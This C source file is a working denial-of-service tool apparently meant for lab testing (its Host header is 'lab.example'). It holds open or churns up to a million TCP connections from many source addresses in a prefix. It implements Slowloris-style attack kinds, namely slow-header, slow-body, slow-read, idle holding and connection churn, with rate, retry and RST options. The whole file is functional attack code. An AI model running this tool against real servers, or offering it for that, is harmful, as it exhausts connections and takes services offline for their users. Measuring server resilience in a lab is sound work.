/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * attack: attackers that complete their handshakes, many addresses of them in one process.
 *
 * Each of --connections slots belongs to one address and is always either waiting for its turn,
 * connecting, or open and doing what the kind says; when its connection ends, for whatever reason,
 * it comes back after --retry. So a slot that is shut out keeps knocking, and "held" is what the
 * attacker has at each moment of what he wants.
 *
 * Every wait of one state has the same length, so a state's slots queue in the order they are due.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <unistd.h>
#include "common/address.h"
#include "common/options.h"
#include "common/run.h"

#define EVENTS_MAX      512
#define SECONDS_MAX     3600
#define CONNECTIONS_MAX 1000000
#define TINY_BUFFER     2048 /* receive buffer of those who don't read */
#define HTTP_HOST       "Host: lab.example\r\n"

static const struct kind {
	const char *name;
	const char *opening; /* sent once; "%s" is --path */
	const char *drip;    /* sent a byte every --interval, over and over */
	bool leaves;         /* closes as soon as it is connected */
	bool deaf;           /* never reads */
} kinds[] = {
	{"hold", "", NULL, false, false},
	{"hold-request", "GET %s HTTP/1.1\r\n", NULL, false, false},
	{"churn", "", NULL, true, false},
	{"slow-header", "GET %s HTTP/1.1\r\n" HTTP_HOST, "X-Filler: filler\r\n", false, false},
	{"slow-body", "POST %s HTTP/1.1\r\n" HTTP_HOST "Content-Length: 1000000\r\n\r\n", "x",
	 false, false},
	{"slow-read", "GET %s HTTP/1.1\r\n" HTTP_HOST "\r\n", NULL, false, true},
	{"idle", "GET %s HTTP/1.1\r\n" HTTP_HOST "\r\n", NULL, false, false},
};

enum state { WAITING, CONNECTING, OPEN, STATES };

struct slot {
	enum state state;
	int fd;
	size_t dripped;
	uint64_t due; /* WAITING: may connect; CONNECTING: gives up; OPEN: next byte */
	uint8_t source[16];
	struct slot *older, *newer;
};

struct queue {
	struct slot *oldest, *newest;
};

struct attack {
	struct endpoint destination;
	struct prefix prefix;
	const char *kind_name, *path;
	uint64_t connections, sources, rate;
	double seconds, interval, retry, patience;
	bool abort, json;

	const struct kind *kind;
	char opening[1024];
	size_t opening_length, drip_length;
	int epoll;
	struct slot *slots;
	struct queue queues[STATES];
	uint64_t attempted, established, refused, unanswered, reset, closed, local, answered;
	uint64_t held, held_peak, held_sum, held_samples;
};

static void slot_enter(struct attack *attack, struct slot *slot, enum state state, uint64_t due)
{
	struct queue *queue = &attack->queues[slot->state];

	if (slot->older || slot->newer || queue->oldest == slot) {
		*(slot->older ? &slot->older->newer : &queue->oldest) = slot->newer;
		*(slot->newer ? &slot->newer->older : &queue->newest) = slot->older;
	}
	queue = &attack->queues[state];
	slot->state = state;
	slot->due = due;
	slot->newer = NULL;
	slot->older = queue->newest;
	*(queue->newest ? &queue->newest->newer : &queue->oldest) = slot;
	queue->newest = slot;
}

static void slot_end(struct attack *attack, struct slot *slot, uint64_t now, uint64_t *counter)
{
	(*counter)++;
	if (slot->state == OPEN)
		attack->held--;
	if (slot->fd >= 0)
		close(slot->fd);
	slot->fd = -1;
	slot_enter(attack, slot, WAITING, now + (uint64_t)(attack->retry * 1e9));
}

static void slot_connect(struct attack *attack, struct slot *slot, uint64_t now)
{
	struct epoll_event wanted = {.events = EPOLLOUT, .data.ptr = slot};
	const struct linger nothing = {.l_onoff = 1};

	attack->attempted++;
	slot->fd = connect_from(slot->source, &attack->destination,
				attack->kind->deaf ? TINY_BUFFER : 0);
	if (slot->fd < 0) {
		slot_end(attack, slot, now, &attack->local);
		return;
	}
	if (attack->abort)
		setsockopt(slot->fd, SOL_SOCKET, SO_LINGER, &nothing, sizeof(nothing));
	slot_enter(attack, slot, CONNECTING, now + (uint64_t)(attack->patience * 1e9));
	epoll_ctl(attack->epoll, EPOLL_CTL_ADD, slot->fd, &wanted);
}

static void slot_connected(struct attack *attack, struct slot *slot, uint64_t now)
{
	struct epoll_event wanted = {.events = EPOLLRDHUP, .data.ptr = slot};
	socklen_t length = sizeof(int);
	int error = 0;

	getsockopt(slot->fd, SOL_SOCKET, SO_ERROR, &error, &length);
	if (error) {
		slot_end(attack, slot, now,
			 error == ECONNREFUSED ? &attack->refused : &attack->reset);
		return;
	}
	attack->established++;
	attack->held++;
	if (attack->held > attack->held_peak)
		attack->held_peak = attack->held;
	slot_enter(attack, slot, OPEN, now + (uint64_t)(attack->interval * 1e9));
	slot->dripped = 0;
	if (attack->kind->leaves) {
		slot_end(attack, slot, now, &attack->closed);
		return;
	}
	if (!attack->kind->deaf)
		wanted.events |= EPOLLIN;
	epoll_ctl(attack->epoll, EPOLL_CTL_MOD, slot->fd, &wanted);
	if (attack->opening_length &&
	    send(slot->fd, attack->opening, attack->opening_length, MSG_NOSIGNAL) < 0)
		slot_end(attack, slot, now, &attack->reset);
}

/* The server says something, or has had enough. */
static void slot_listen(struct attack *attack, struct slot *slot, uint32_t events, uint64_t now)
{
	char discarded[4096];
	ssize_t received;

	if (attack->kind->deaf) {
		slot_end(attack, slot, now, events & EPOLLERR ? &attack->reset : &attack->closed);
		return;
	}
	received = recv(slot->fd, discarded, sizeof(discarded), 0);
	if (received > 0)
		attack->answered++;
	else if (received == 0)
		slot_end(attack, slot, now, &attack->closed);
	else if (errno != EAGAIN)
		slot_end(attack, slot, now, &attack->reset);
}

static void slot_drip(struct attack *attack, struct slot *slot, uint64_t now)
{
	const char *byte = &attack->kind->drip[slot->dripped++ % attack->drip_length];

	if (send(slot->fd, byte, 1, MSG_NOSIGNAL) < 0 && errno != EAGAIN)
		slot_end(attack, slot, now, &attack->reset);
	else
		slot_enter(attack, slot, OPEN, now + (uint64_t)(attack->interval * 1e9));
}

/* Does what is due in every queue. @allowed: attempts that the rate leaves. */
static void attack_turn(struct attack *attack, uint64_t now, uint64_t allowed)
{
	struct slot *slot;

	while (allowed-- && (slot = attack->queues[WAITING].oldest) && slot->due <= now)
		slot_connect(attack, slot, now);
	while ((slot = attack->queues[CONNECTING].oldest) && slot->due <= now)
		slot_end(attack, slot, now, &attack->unanswered);
	while (attack->kind->drip && (slot = attack->queues[OPEN].oldest) && slot->due <= now)
		slot_drip(attack, slot, now);
	attack->held_sum += attack->held;
	attack->held_samples++;
}

static void attack_run(struct attack *attack)
{
	struct epoll_event events[EVENTS_MAX];
	uint64_t start = run_clock(), now = start, due, spent = 0, before;
	uint64_t end = start + (uint64_t)(attack->seconds * 1e9);

	while (!run_stopped && now < end) {
		due = attack->rate ? (now - start) * attack->rate / SECOND : spent + EVENTS_MAX;
		before = attack->attempted;
		attack_turn(attack, now, due - spent);
		/* What could not be used now is not saved up for later. */
		spent = attack->rate ? due : spent + attack->attempted - before;
		int count = epoll_wait(attack->epoll, events, EVENTS_MAX, 1);

		now = run_clock();
		for (int i = 0; i < count; i++) {
			struct slot *slot = events[i].data.ptr;

			if (slot->state == CONNECTING)
				slot_connected(attack, slot, now);
			else
				slot_listen(attack, slot, events[i].events, now);
		}
	}
}

static bool attack_prepare(struct attack *attack)
{
	int length;

	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++)
		if (!strcmp(kinds[i].name, attack->kind_name))
			attack->kind = &kinds[i];
	if (!attack->kind)
		options_refuse("--kind: there is no '%s'", attack->kind_name);
	length = snprintf(attack->opening, sizeof(attack->opening), attack->kind->opening,
			  attack->path);
	if (length < 0 || (size_t)length >= sizeof(attack->opening))
		options_refuse("--path is too long");
	attack->opening_length = (size_t)length;
	attack->drip_length = attack->kind->drip ? strlen(attack->kind->drip) : 0;
	if (attack->kind->leaves)
		attack->retry = 0; /* one order of waiting for all */
	attack->epoll = epoll_create1(EPOLL_CLOEXEC);
	attack->slots = calloc(attack->connections, sizeof(*attack->slots));
	if (attack->epoll < 0 || !attack->slots)
		return false;
	for (uint64_t i = 0; i < attack->connections; i++) {
		attack->slots[i].fd = -1;
		prefix_host(&attack->prefix, i % attack->sources, attack->slots[i].source);
		slot_enter(attack, &attack->slots[i], WAITING, 0);
	}
	return true;
}

static json_t *attack_result(const struct attack *attack)
{
	double mean =
		attack->held_samples ? (double)attack->held_sum / (double)attack->held_samples : 0;

	return json_pack("{s:I, s:I, s:I, s:I, s:I, s:I, s:I, s:I, s:I, s:I, s:f}", "attempted",
			 (json_int_t)attack->attempted, "established",
			 (json_int_t)attack->established, "refused", (json_int_t)attack->refused,
			 "unanswered", (json_int_t)attack->unanswered, "reset",
			 (json_int_t)attack->reset, "closed", (json_int_t)attack->closed,
			 "answered", (json_int_t)attack->answered, "local",
			 (json_int_t)attack->local, "held", (json_int_t)attack->held, "held_peak",
			 (json_int_t)attack->held_peak, "held_mean", mean);
}

int main(int argc, char **argv)
{
	struct attack attack = {.kind_name = "hold",
				.path = "/",
				.connections = 100,
				.sources = 1,
				.rate = 1000,
				.seconds = 10,
				.interval = 1,
				.retry = 1,
				.patience = 5};
	const struct option_row rows[] = {
		{"kind", OPTION_TEXT, &attack.kind_name,
		 "hold hold-request churn slow-header slow-body slow-read idle"},
		{"destination", OPTION_ENDPOINT, &attack.destination, "the server"},
		{"source-prefix", OPTION_PREFIX, &attack.prefix, "where attackers come from"},
		{"sources", OPTION_COUNT, &attack.sources,
		 "how many addresses of it; 1 unless said"},
		{"connections", OPTION_COUNT, &attack.connections,
		 "wanted at once; 100 unless said"},
		{"rate", OPTION_COUNT, &attack.rate,
		 "attempts a second at most; 1000 unless said, 0: no limit"},
		{"interval", OPTION_SECONDS, &attack.interval, "between slow bytes; 1 unless said"},
		{"retry", OPTION_SECONDS, &attack.retry, "before coming back; 1 unless said"},
		{"patience", OPTION_SECONDS, &attack.patience,
		 "with a silent server; 5 unless said"},
		{"abort", OPTION_SWITCH, &attack.abort, "end connections by RST, not by FIN"},
		{"path", OPTION_TEXT, &attack.path, "to request; / unless said"},
		{"seconds", OPTION_SECONDS, &attack.seconds, "how long; 10 unless said"},
		{"json", OPTION_SWITCH, &attack.json, "print the result as JSON"},
	};

	options_read(argc, argv, "attacks with complete connections from many addresses", rows,
		     sizeof(rows) / sizeof(rows[0]));
	if (!attack.destination.family || attack.prefix.family != attack.destination.family)
		options_refuse("--destination and --source-prefix are needed, of one family");
	if (!attack.sources || attack.sources > prefix_hosts(&attack.prefix))
		options_refuse("--sources: at least 1, and not more than the prefix has");
	if (attack.seconds > SECONDS_MAX)
		options_refuse("--seconds: at most %d", SECONDS_MAX);
	if (!attack.connections || attack.connections > CONNECTIONS_MAX)
		options_refuse("--connections: 1 to %d", CONNECTIONS_MAX);
	if (!attack_prepare(&attack))
		options_refuse("no memory for %llu connections",
			       (unsigned long long)attack.connections);

	run_begin(attack.seconds);
	attack_run(&attack);
	int status = run_report(attack_result(&attack), attack.json);
	for (uint64_t i = 0; i < attack.connections; i++)
		if (attack.slots[i].fd >= 0)
			close(attack.slots[i].fd);
	close(attack.epoll);
	free(attack.slots);
	return status;
}
